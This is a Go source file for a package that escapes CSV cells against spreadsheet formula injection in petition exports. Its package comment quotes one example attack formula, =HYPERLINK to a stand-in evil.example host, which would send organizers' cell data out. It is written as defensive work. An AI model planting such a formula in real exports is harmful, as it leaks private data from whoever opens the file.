// Package csvsafe writes CSV that a spreadsheet opens as data, never as
// formulas: every CSV faxjam writes (petition exports, the petition
// server's and the hub's text/csv exports, --rejects files, status
// receipts) goes through it.
//
// Signers type notes and e-mails that may start with = + - @, and a note
// such as =HYPERLINK("http://evil.example/?"&A2,"Click") sends the
// organizer's data out of the spreadsheet that opens it ("CSV injection",
// "formula injection"). Cell escapes a value the way OWASP recommends: a
// value whose first character is = + - @, a tab or a carriage return gets a
// single quote in front, which spreadsheets show as text and do not
// evaluate. Leading spaces and line feeds do not hide the character
// (spreadsheets skip them), and neither do the full-width forms ＝ ＋ － ＠.
// A value that is just a number ("+12025550142", "-3") is left alone: it
// evaluates to itself. Normalization trims a leading tab from a note, so
// `\t=1+1` is stored as "=1+1", which is escaped like any other.
//
// A Writer with raw set writes values verbatim, for scripts (--raw).
package csvsafe

import (
	"encoding/csv"
	"io"
	"strings"
	"unicode/utf8"
)

// triggers are the first characters that make a spreadsheet evaluate a cell.
const triggers = "=+-@\t\r＝＋－＠"

// Cell returns v as it may go into a spreadsheet cell: with a single quote
// in front when a spreadsheet would take it for a formula, else unchanged.
func Cell(v string) string {
	if v == "" || isNumber(v) {
		return v
	}
	first, _ := utf8.DecodeRuneInString(strings.TrimLeft(v, " \n"))
	if strings.ContainsRune(triggers, first) {
		return "'" + v
	}
	return v
}

// isNumber reports whether v is a plain number: an optional sign, digits,
// at most one dot.
func isNumber(v string) bool {
	s := strings.TrimLeft(v, "+-")
	if len(v)-len(s) > 1 || s == "" {
		return false
	}
	dot := false
	for i := 0; i < len(s); i++ {
		switch c := s[i]; {
		case c == '.' && !dot:
			dot = true
		case c < '0' || c > '9':
			return false
		}
	}
	return s != "."
}

// Writer is a csv.Writer whose every cell goes through Cell, unless raw.
type Writer struct {
	w   *csv.Writer
	raw bool
	rec []string
}

// NewWriter returns a Writer on w; raw writes values verbatim.
func NewWriter(w io.Writer, raw bool) *Writer {
	return &Writer{w: csv.NewWriter(w), raw: raw}
}

// Write writes one record, escaping each cell unless the Writer is raw.
func (w *Writer) Write(record []string) error {
	if w.raw {
		return w.w.Write(record)
	}
	w.rec = w.rec[:0]
	for _, v := range record {
		w.rec = append(w.rec, Cell(v))
	}
	return w.w.Write(w.rec)
}

// Flush writes any buffered data to the underlying writer.
func (w *Writer) Flush() { w.w.Flush() }

// Error reports an error of a previous Write or Flush.
func (w *Writer) Error() error { return w.w.Error() }
